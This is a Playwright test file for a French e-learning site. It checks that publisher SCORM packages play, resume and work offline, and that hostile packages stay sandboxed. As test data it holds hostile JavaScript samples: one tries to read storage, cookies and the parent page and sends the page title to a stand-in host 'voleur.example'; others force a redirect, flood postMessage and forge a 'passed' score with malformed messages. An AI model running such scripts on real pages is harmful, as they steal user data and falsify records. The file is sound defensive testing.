"""Packages of publishers in Chromium: played, resumed, kept offline; the hostile ones shut in."""

import re
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from playwright.sync_api import Browser, Frame, Page, Request, expect

from browser.town import Town, ask
from browser.waiting import until
from fakes.bought import FILES, FILES_2004, SHEET, lay, with_script
from fakes.tiny import project

pytestmark = pytest.mark.browser
ROOT = Path(__file__).parents[2]
TRUST = "  trust: Contrat 2026-114, son lecteur a besoin de ses cadres.\n"
HONEST = ("balayer", "ami", "recent")
# What a thief tries, each on its own; what it got is written on the title of its page.
THIEF = """
const got = {}, real = top;
const tries = {
  own: () => (localStorage.x = "1", indexedDB.open("x") && "db"), cookie: () => document.cookie,
  top: () => real.localStorage, host: () => real.frames[0].document.title,
  parent: () => window.parent.localStorage.getItem("mrl1:0:voleur"),
  page: () => real.document.title, open: () => String(open("/m/matelas/")),
};
for (const name in tries) {
  try { got[name] = tries[name]() } catch (error) { got[name] = error.name }
}
try { real.location = "/m/matelas/" } catch { got.away = "refused" }
alert("?"); confirm("?"); prompt("?");
fetch("https://voleur.example/?" + document.title).catch(() => got.fetch = "refused");
fetch(location.ancestorOrigins[0] + "/sw.js").catch(() => got.site = "refused");
new Image().src = "https://voleur.example/pixel.png";
const frame = document.createElement("iframe");
frame.src = "https://voleur.example/frame"; document.body.append(frame);
const tell = () => {
  if (got.fetch && got.site) document.body.dataset.got = JSON.stringify(got);
  else setTimeout(tell, 100);
};
setTimeout(tell, 300);
"""
GOES = """() => {
  const form = document.createElement("form");
  form.action = "https://voleur.example/form";
  document.body.append(form);
  form.submit();
  setTimeout(() => (location = "https://voleur.example/away"), 50);
}"""
CHATTER = "setInterval(() => top.frames[0].postMessage({said: {status: 'passed'}}, '*'), 1);"
LIAR = """
const tell = (said) => top.frames[0].postMessage({said}, "*");
for (const said of [null, 7, "passed", {}, [], {status: "passed", raw: 1e9, at: "", data: ""},
  {status: "admin", raw: 1, at: "", data: ""}, {status: "__proto__", raw: 1, at: "", data: ""},
  {status: "passed", raw: "100", at: "", data: ""}, {status: "passed", raw: 1, at: {}, data: ""},
  {status: "passed", raw: 90, at: "", data: "x".repeat(1e7)},
  {status: "passed", raw: 90, at: "y".repeat(1e7), data: ""}]) tell(said);
tell({status: "incomplete", raw: null, at: "2", data: "sain", more: "non"});
top.postMessage({said: {status: "passed", raw: 100, at: "", data: "faux"}}, "*");
document.body.dataset.got = "said";
"""


@pytest.fixture(scope="module")
def town(browser: Browser, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Town]:
    """A site with honest packages of both editions, a trusted one, and three that are hostile."""
    root = tmp_path_factory.mktemp("paquets")
    project(root, {"mkdocs.yml": ROOT.joinpath("mkdocs.yml").read_text("utf-8")})
    lay(root, FILES)
    lay(root, FILES_2004, name="recent")
    friend = with_script(
        "fetch('https://voleur.example/').catch((e) => (document.body.id = 'shut'))"
    )
    lay(root, friend, SHEET + TRUST, "ami")
    for name, script in (("voleur", THIEF), ("bavard", CHATTER), ("menteur", LIAR)):
        lay(root, with_script(script), name=name)
    made = Town(root=root, browser=browser)
    made.publish()
    made.open()
    yield made
    made.end()


def visit(town: Town, module: str) -> Page:
    """Open the square of a package on a new phone."""
    page = town.phone().new_page()
    page.on("pageerror", lambda error: pytest.fail(str(error)) if module in HONEST else None)
    page.goto(f"{town.address}/m/{module}/#q-paquet")
    expect(main_button(page)).to_have_text("Commencer")
    return page


def main_button(page: Page) -> Any:
    """The button that says what happens next."""
    return page.locator("footer button").last


def enter(page: Page) -> Frame:
    """Open the package, once it can be, and return the frame where it plays."""
    expect(main_button(page)).to_have_text(re.compile("^(Commencer|Reprendre)$"))
    main_button(page).click()
    expect(page.locator(".room > iframe")).to_be_visible()
    page.wait_for_function("() => document.querySelector('.room > p').hidden")
    outer = page.locator(".room > iframe").element_handle().content_frame()
    assert outer
    if "/assets/later/" not in outer.url:
        return outer
    inner = outer.locator("iframe").element_handle().content_frame()
    assert inner
    return inner


def leave(page: Page, said: str) -> None:
    """Leave by the visible way out."""
    page.get_by_role("button", name="Quitter").click()
    expect(page.locator("mrl-package [role=status]")).to_have_text(said)


def record(page: Page, module: str) -> Any:
    """What the phone holds of a module."""
    return page.evaluate("(name) => JSON.parse(localStorage[`mrl1:0:${name}`] || '{}')", module)


@pytest.mark.parametrize("module", ["balayer", "ami", "recent"])
def test_a_package_is_played_left_and_resumed(town: Town, module: str) -> None:
    """Its files come, its place and its state come back, its score is kept as a lesson's is."""
    page = visit(town, module)
    frame = enter(page)
    expect(frame.locator("#text")).to_have_text("Pliez les genoux.")
    frame.wait_for_function("document.images[0].naturalWidth > 0")
    frame.locator("#next").click()
    leave(page, "Vous avez commencé ce module. Votre place est gardée sur ce téléphone.")
    page.reload()
    expect(main_button(page)).to_have_text("Reprendre")
    frame = enter(page)
    expect(frame.locator("#at")).to_have_text("Page 2")
    frame.wait_for_function("document.title === 'vu:2'")
    frame.locator("a[href='#at']").click()
    if module == "ami":
        frame.locator("body#shut").wait_for()  # it asks this site alone
    frame.locator("#end").click()
    leave(page, "C’est réussi. Votre score\u00a0: 80\u00a0%.")
    main_button(page).click()
    expect(page.locator(".score")).to_contain_text("80 / 100")
    kept = record(page, module)
    assert kept["fin"]["status"] == "passed"
    # SCORM 2004 tells apart what is finished and what is passed: the sheet's mark decides.
    status = "completed" if module == "recent" else "passed"
    assert kept["r"] == {"paquet.": {"status": status, "raw": 80, "at": "2", "data": "vu:2"}}
    until(page, "() => localStorage['mrl1:0:.done']")
    done = page.evaluate("() => JSON.parse(localStorage['mrl1:0:.done'])")
    assert done[module]["score"] == 80
    page.close()


def test_a_closed_package_reads_nothing_and_goes_nowhere(town: Town) -> None:
    """No storage, no cookie, no page above, no window, no dialog, no request, no way elsewhere."""
    page = visit(town, "voleur")
    page.evaluate("localStorage['mrl1:0:voleur'] = '{\"v\": 1, \"secret\": 1}'")
    asked: list[Request] = []
    dialogs: list[str] = []
    page.context.on("request", lambda request: asked.append(request))
    page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
    frame = enter(page)
    frame.locator("body[data-got]").wait_for()
    got = frame.evaluate("JSON.parse(document.body.dataset.got)")
    refused = dict.fromkeys(("own", "cookie", "top", "host", "page", "away"), "SecurityError")
    assert got == refused | {"away": "refused", "open": "null", "parent": "TypeError"} | {
        "fetch": "refused",
        "site": "refused",
    }
    frame.evaluate(GOES)
    page.wait_for_timeout(400)
    assert page.url == f"{town.address}/m/voleur/#q-paquet"
    assert dialogs == []
    # Chromium tells of a request that it refuses to send too, and why.
    assert {one.failure for one in asked if "voleur.example" in one.url} <= {"csp"}
    assert len(page.context.pages) == 1
    page.close()


def test_a_package_that_floods_is_stopped(town: Town) -> None:
    """Too many messages close the room, with a sentence; the page goes on, nothing was won."""
    page = visit(town, "bavard")
    main_button(page).click()
    expect(page.locator("mrl-package [role=status]")).to_contain_text("trop de messages")
    expect(page.locator(".room")).to_have_count(0)
    expect(main_button(page)).to_have_text("Commencer")
    assert "fin" not in record(page, "bavard"), record(page, "bavard")
    page.close()


def test_what_makes_no_sense_is_not_kept(town: Town) -> None:
    """Of wrong words and of ten megabytes nothing is kept; of sound words, only what is known."""
    page = visit(town, "menteur")
    frame = enter(page)
    frame.locator("body[data-got]").wait_for()
    page.evaluate("postMessage({said: {status: 'passed', raw: 100, at: '', data: 'moi'}})")
    leave(page, "Vous avez commencé ce module. Votre place est gardée sur ce téléphone.")
    kept = record(page, "menteur")["r"]["paquet."]
    assert kept.keys() == {"status", "raw", "at", "data"}
    assert kept["status"] == "incomplete"
    assert len(str(kept)) < 200
    page.close()


@pytest.mark.parametrize("module", ["balayer", "ami"])
def test_a_kept_package_plays_once_the_server_is_dead(town: Town, module: str) -> None:
    """« Garder » says its weight, keeps all of it, and it is played to its end without network."""
    page = visit(town, module)
    listed = page.evaluate("fetch('files.json').then((answer) => answer.json())")
    assert any(file["at"].startswith("paquet.") for file in listed["files"])
    assert ask(page, "keep", module) == {"done": True}
    town.close()
    page.goto(f"{town.address}/m/{module}/#q-paquet")
    page.reload()
    expect(main_button(page)).to_have_text("Commencer")
    frame = enter(page)
    expect(frame.locator("#text")).to_have_text("Pliez les genoux.")
    frame.locator("#end").click()
    page.get_by_role("button", name="Quitter").click()
    expect(page.locator("mrl-package [role=status]")).to_contain_text("C’est réussi.")
    town.open()
    page.close()


def test_by_keyboard_alone_and_back(town: Town) -> None:
    """Enter begins, Escape or the phone's way back leaves, and the focus is on what comes next."""
    page = visit(town, "balayer")
    main_button(page).focus()
    page.keyboard.press("Enter")
    expect(page.locator(".room > iframe")).to_be_visible()
    expect(page.locator(":focus")).to_have_text("‹ Quitter")
    page.keyboard.press("Escape")
    expect(page.locator(".room")).to_have_count(0)
    expect(main_button(page)).to_be_focused()
    page.close()


def test_without_javascript_it_says_what_to_do(town: Town) -> None:
    """The page says whose the module is, and what to do to open it."""
    phone = town.browser.new_context(java_script_enabled=False)
    page = phone.new_page()
    page.goto(f"{town.address}/m/balayer/")
    expect(page.get_by_text("Éditions du Trottoir")).to_be_visible()
    expect(page.get_by_text("Il a besoin de JavaScript")).to_be_visible()
    expect(page.get_by_role("button", name="Ouvrir de nouveau")).to_be_hidden()
    phone.close()
